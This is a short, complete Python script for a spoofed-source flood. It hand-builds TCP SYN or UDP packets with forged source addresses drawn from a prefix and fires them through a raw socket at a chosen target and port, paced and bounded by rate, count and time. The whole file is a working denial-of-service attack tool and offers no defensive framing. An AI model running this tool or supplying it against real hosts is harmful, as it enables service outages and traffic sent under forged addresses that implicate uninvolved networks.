#!/usr/bin/python3
"""Spoofed-source flood: TCP SYNs or UDP datagrams from addresses drawn from a
prefix, built by hand and sent through a raw socket (IP_HDRINCL), so that the
victim's answers go nowhere. Bounded by --count and --seconds; paced at
--rate packets per second. Prints a JSON summary."""
import argparse
import ipaddress
import json
import random
import socket
import struct
import time

ap = argparse.ArgumentParser()
ap.add_argument("--dst", required=True)
ap.add_argument("--port", type=int, required=True)
ap.add_argument("--sources", required=True, help="prefix the source addresses are drawn from")
ap.add_argument("--proto", choices=["syn", "udp"], default="syn")
ap.add_argument("--payload", type=int, default=0)
ap.add_argument("--rate", type=float, required=True)
ap.add_argument("--count", type=int, required=True)
ap.add_argument("--seconds", type=float, required=True)
ap.add_argument("--seed", type=int, default=0)
a = ap.parse_args()
rng = random.Random(a.seed)
net = ipaddress.ip_network(a.sources)
dst = socket.inet_aton(a.dst)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def packet():
    src = socket.inet_aton(str(net[rng.randrange(1, net.num_addresses - 1)]))
    sport = rng.randrange(1024, 65535)
    payload = rng.randbytes(a.payload)
    if a.proto == "syn":
        proto = socket.IPPROTO_TCP
        hdr = struct.pack("!HHIIBBHHH", sport, a.port, rng.getrandbits(32), 0, 5 << 4, 0x02,
                          rng.choice([64240, 29200, 65535, 1024]), 0, 0)
    else:
        proto = socket.IPPROTO_UDP
        hdr = struct.pack("!HHHH", sport, a.port, 8 + len(payload), 0)
    seg = hdr + payload
    pseudo = src + dst + struct.pack("!BBH", 0, proto, len(seg))
    c = csum(pseudo + seg)
    seg = seg[:16] + struct.pack("!H", c) + seg[18:] if a.proto == "syn" else seg[:6] + struct.pack("!H", c or 0xFFFF) + seg[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), rng.getrandbits(16), 0x4000, rng.choice([64, 128, 255]),
                     proto, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + seg


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
sent, start = 0, time.time()
while sent < a.count and time.time() - start < a.seconds:
    s.sendto(packet(), (a.dst, 0))
    sent += 1
    ahead = sent / a.rate - (time.time() - start)
    if ahead > 0.002:
        time.sleep(ahead)
print(json.dumps({"sent": sent, "seconds": round(time.time() - start, 3)}))
